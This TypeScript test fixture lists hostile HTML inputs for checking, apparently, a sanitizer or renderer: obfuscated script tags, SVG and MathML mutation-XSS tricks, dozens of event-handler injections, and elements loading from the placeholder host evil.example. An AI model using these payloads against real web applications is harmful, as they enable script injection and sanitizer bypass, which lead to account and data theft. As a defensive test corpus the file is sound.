import type { HostileContents } from './contents.ts'

const RUN = 'window.pwned=1'

/** Event handlers, each on an element that calls it without or with a minimal interaction. */
const HANDLERS = [
  'onload onerror onclick onmouseover onmouseenter onpointerdown onpointerenter onfocus onblur',
  'onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onwheel onscroll oncopy',
  'onbeforeinput oninput onkeydown oncontextmenu oncontentvisibilityautostatechange onbegin onend',
  'onpageshow onhashchange onmessage onresize onsecuritypolicyviolation onslotchange onformdata',
]
  .join(' ')
  .split(' ')

/** Elements that load, run or cover something. Each is tested open, closed and in a paragraph. */
const ELEMENTS = [
  'script src="https://evil.example/a.js"',
  'iframe src="https://evil.example"',
  'frame src="https://evil.example"',
  'object data="https://evil.example"',
  'embed src="https://evil.example"',
  'applet code="Evil"',
  'link rel="stylesheet" href="https://evil.example/a.css"',
  'meta http-equiv="refresh" content="0;url=https://evil.example"',
  'base href="https://evil.example/"',
  'form action="https://evil.example"',
  'input autofocus name="token"',
  'button formaction="javascript:window.pwned=1"',
  'textarea autofocus',
  'select multiple size="999"',
  'video src="https://evil.example/a.webm" autoplay',
  'audio src="https://evil.example/a.ogg" autoplay',
  'source srcset="https://evil.example/a.png"',
  'picture id="root"',
  'img src="https://evil.example/pixel.gif" srcset="https://evil.example/b.gif 2x"',
  'image src="x" onerror="window.pwned=1"',
  'svg width="9999" height="9999"',
  'math display="block"',
  'template shadowrootmode="open"',
  'slot name="x"',
  'dialog open',
  'details open ontoggle="window.pwned=1"',
  'marquee onstart="window.pwned=1"',
  'canvas width="9999" height="99999"',
  'table background="https://evil.example/a.png"',
  'plaintext id="x"',
  'portal src="https://evil.example"',
  'fencedframe config="x"',
  'x-evil is="x-evil"',
  'body background="https://evil.example/a.png"',
  'font size="7" style="font-size:9999px"',
  'center style="position:fixed;inset:0"',
]

const getName = (element: string): string => element.split(' ')[0] ?? element

const SCRIPTS: HostileContents = [
  ['a script', `<script>${RUN}</script>`],
  ['a script in capitals', `<SCRIPT>${RUN}</SCRIPT>`],
  ['a script with a slash in it', `<script/x>${RUN}</script>`],
  ['a script that never ends', `<script>${RUN}`],
  ['a script inside of a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script between broken tags', `<<script>${RUN}//<</script>`],
  ['a script after a null byte', `<scr\0ipt>${RUN}</scr\0ipt>`],
  ['a module', `<script type="module">${RUN}</script>`],
  ['a script by entities', `&lt;script&gt;${RUN}&lt;/script&gt;`],
  ['a script by entities, twice', `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`],
  ['a script in a comment', `<!--<script>${RUN}</script>-->`],
  ['a script after a short comment', `<!--><script>${RUN}</script>-->`],
  ['a script in CDATA', `<![CDATA[<script>${RUN}</script>]]>`],
  ['an instruction', `<?xml-stylesheet href="javascript:${RUN}"?>`],
  ['a document type', '<!DOCTYPE html [<!ENTITY x "y">]>&x;'],
  ['a drawing with a script', `<svg><script>${RUN}</script></svg>`],
  ['a drawing that loads', `<svg onload=${RUN}><circle r=1></svg>`],
  ['a drawing with a page', `<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>`],
  ['a drawing that uses another', '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>'],
  ['a drawing with a style', '<svg><style><img src=x onerror=window.pwned=1></style></svg>'],
  [
    'an animated address',
    `<svg><a><animate attributeName=href values=javascript:${RUN} /></a></svg>`,
  ],
  ['a set address', `<svg><set attributeName=onmouseover to=${RUN} /></svg>`],
  ['a title in a drawing', `<svg><title><img src=x onerror=${RUN}></title></svg>`],
  ['a description in a drawing', `<svg><desc><img src=x onerror=${RUN}></desc></svg>`],
  [
    'mathematics that hides a picture',
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  ],
  ['mathematics with an address', `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`],
  [
    'mathematics with an annotation',
    `<math><annotation-xml encoding="text/html"><script>${RUN}</script>`,
  ],
  [
    'mathematics that swaps its parser',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  ],
  [
    'an attribute that ends a noscript',
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  [
    'an attribute that ends a style',
    `<style><p title="</style><img src=x onerror=${RUN}>"></style>`,
  ],
  [
    'an attribute that ends a textarea',
    `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  ],
  ['an attribute that ends a title', `<title><p title="</title><img src=x onerror=${RUN}>">`],
  ['an attribute that ends a comment', `<p title="--><img src=x onerror=${RUN}>">x</p>`],
  ['a template with a script', `<template><script>${RUN}</script></template>`],
  ['a shadow root', `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`],
  ['a style that covers the page', '<p style="position:fixed;inset:0;z-index:9999">x</p>'],
  ['a style that fetches', '<p style="background:url(https://evil.example/a.png)">x</p>'],
  ['a sheet', '<style>* { display: none !important }</style>'],
  ['a sheet that imports', '<style>@import "https://evil.example/a.css";</style>'],
  ['ids of the page', '<p id="root">x</p><p id="cookie">y</p>'],
  ['names that shadow', '<a name="body" href="https://a.example">x</a><p name="forms">y</p>'],
  ['a class of ours', '<p class="status Content_emoji">x</p>'],
  [
    'a place in the feed',
    '<p role="alert" aria-live="assertive" tabindex="1" aria-hidden="true">x</p>',
  ],
  ['text that can be edited', '<p contenteditable autofocus onfocus=window.pwned=1>x</p>'],
  ['a thing that pops up', '<p popover id="p">x</p><button popovertarget="p">y</button>'],
  ['a thing that can be dragged', '<p draggable="true" data-evil="1" slot="x" part="y">x</p>'],
  ['an access key', '<a accesskey="r" href="https://a.example">x</a>'],
  ['an attribute without an end', `<p title="><img src=x onerror=${RUN}>`],
  ['an attribute between backquotes', `<img src=\`x\` onerror=\`${RUN}\`>`],
  ['an attribute after a form feed', `<img\fsrc=x\fonerror=${RUN}>`],
  ['attributes without a space', `<img/src="x"/onerror="${RUN}">`],
]

const BROKEN: HostileContents = [
  ['nothing', ''],
  ['white space', ' \n\t '],
  ['an opening sign', '<'],
  ['a tag that never ends', '<p'],
  ['tags that close nothing', '</p></div></a></blockquote></body></html>'],
  ['tags that are never closed', '<p><b><i><u><s><em><strong><del><code>x'],
  ['tags that cross', '<b><i>x</b>y</i><a href="https://a.example"><p>z</a></p>'],
  ['a paragraph in a paragraph, by a button', '<p>a<button><p>b</p></button></p>'],
  ['a paragraph in a heading', '<h1><p>a</p></h1><h2><div>b</div></h2>'],
  ['boxes in boxes', '<div><div><p>a</p></div><div>b<ul><li>c</li></ul></div></div>'],
  [
    'a link in a link, by an object',
    '<a href="https://a.example">a<object><a href="https://b.example">b</a></object></a>',
  ],
  ['a list without its list', '<li>a<li>b'],
  ['a list with words of its own', '<ul>a<li>b</li>c<ol>d</ol></ul>'],
  [
    'a list that counts from far away',
    '<ol start="99999999999999999999"><li value="-1e99">a</li></ol>',
  ],
  ['a list that counts down', '<ol reversed start="-5"><li value="x">a</li></ol>'],
  ['cells without a table', '<td>a</td><tr><th>b</th></tr>'],
  ['a document in a document', '<html><head><title>x</title></head><body><p>y</p></body></html>'],
  ['entities that are none', '&#x110000; &#0; &#xD800; &nosuch; &amp &#99999999999;'],
  ['half a surrogate', 'a\ud83d b\udc00 c'],
  ['null bytes', 'a\0b<p>\0</p>'],
  ['controls', Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x')],
  ['no character at all', '\ufffe\uffff\ufdd0'],
  ['a language that is none', '<p lang="\u202e">x</p><p lang="x-y-z-0000000">y</p>'],
  ['a direction that is none', '<p dir="sideways">x</p>'],
  ['JSON instead of HTML', '{"content":"<p>x</p>"}'],
  ['Markdown instead of HTML', '[x](javascript:alert(1)) ![y](https://evil.example/a.png)'],
]

/** Markup that runs code, covers the page or is broken. */
export const HOSTILE_MARKUP: HostileContents = [
  ...SCRIPTS,
  ...BROKEN,
  ...HANDLERS.map(
    (handler) => [handler, `<p ${handler}="${RUN}" tabindex=0 autofocus>x</p>`] as const,
  ),
  ...ELEMENTS.map((element) => [getName(element), `<${element}>x</${getName(element)}>`] as const),
  ...ELEMENTS.map(
    (element) => [`${getName(element)} in a paragraph`, `<p>a<${element}><p>b</p></p>`] as const,
  ),
]
